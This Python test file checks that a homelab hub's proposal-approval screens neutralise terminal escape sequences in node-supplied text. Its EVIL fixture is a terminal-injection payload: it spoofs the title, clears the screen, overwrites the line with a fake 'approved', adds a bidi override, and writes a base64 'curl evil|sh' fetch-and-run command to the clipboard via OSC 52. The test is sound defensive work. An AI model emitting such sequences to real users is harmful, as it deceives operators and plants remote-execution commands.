"""Finding 14: escape sequences in node text never reach the administrator's terminal on the
approval screen; they are shown as visible \\xNN escapes, and rich markup in them is inert."""

from __future__ import annotations

import json
import os
import subprocess
import sys

from agent import playbook as pbm
from hub.paths import shipped
from hub.proposals import state as proposals
from hub.store import open_db
from hub.terminal import clean

EVIL = "\x1b]0;pwned\x07\x1b[2J\x1b[1A\rapproved\x9b31m\u202eevil\x1b]52;c;Y3VybCBldmlsfHNo\x07 [blink]x[/blink]"
BAD = ("\x1b", "\x07", "\x9b", "\r", "\u202e")


def test_clean_keeps_text_and_neutralises_controls():
    assert clean("line one\n\tline two é ✓") == "line one\n\tline two é ✓"
    out = clean(EVIL)
    assert not any(b in out for b in BAD)
    assert "\\x1b]0;pwned\\x07" in out and "\\u202e" in out and "\\x0d" in out


def test_proposal_screens_show_no_escapes(tmp_path, monkeypatch):
    for k in [k for k in os.environ if k.startswith("HOMELAB_")]:
        monkeypatch.delenv(k)
    data = tmp_path / "hub"
    db = open_db(data / "homelab.db")
    db.execute("INSERT INTO nodes (name, created) VALUES ('n1', 0)")
    db.execute("INSERT INTO events (id, node, seq, ts, kind, data) VALUES (11, 'n1', 1, 0, 'log', ?)",
               (json.dumps({"kind": "log", "message": EVIL}, ensure_ascii=False),))
    pb = pbm.load_dir(shipped("playbooks"))["clean-tmp"]
    db.execute("BEGIN IMMEDIATE")
    pid = proposals.create(db, node="n1", pb=pb, params={"path": "/tmp/x"}, rule="tmp-growing",
                           why="alert 1 firing on n1: " + EVIL, evidence=[11], rationale="model says " + EVIL)
    db.execute("INSERT INTO jobs (id, node, proposal_id, mode, playbook, payload, signature, state, created,"
               " expires, output, reason) VALUES ('job_1', 'n1', ?, 'check', 'clean-tmp', '{}', 's', 'succeeded',"
               " 1, 2, ?, ?)", (pid, "would delete " + EVIL, "reason " + EVIL))
    db.execute("COMMIT")
    db.close()
    for args in (["proposals", "show", str(pid)], ["proposals"]):
        r = subprocess.run([sys.executable, "-m", "hub", *args, "--data-dir", str(data)],
                           capture_output=True, text=True, timeout=120)
        assert r.returncode == 0, r.stderr
        assert not any(b in r.stdout for b in BAD), (args, [b for b in BAD if b in r.stdout])
    shown = r = subprocess.run([sys.executable, "-m", "hub", "proposals", "show", str(pid), "--data-dir", str(data)],
                               capture_output=True, text=True, timeout=120).stdout
    assert shown.count("\\x1b]0;pwned") >= 4  # why, rationale, evidence, check output: all still visible
    assert "[blink]x[/blink]" in shown  # markup printed as text, not interpreted
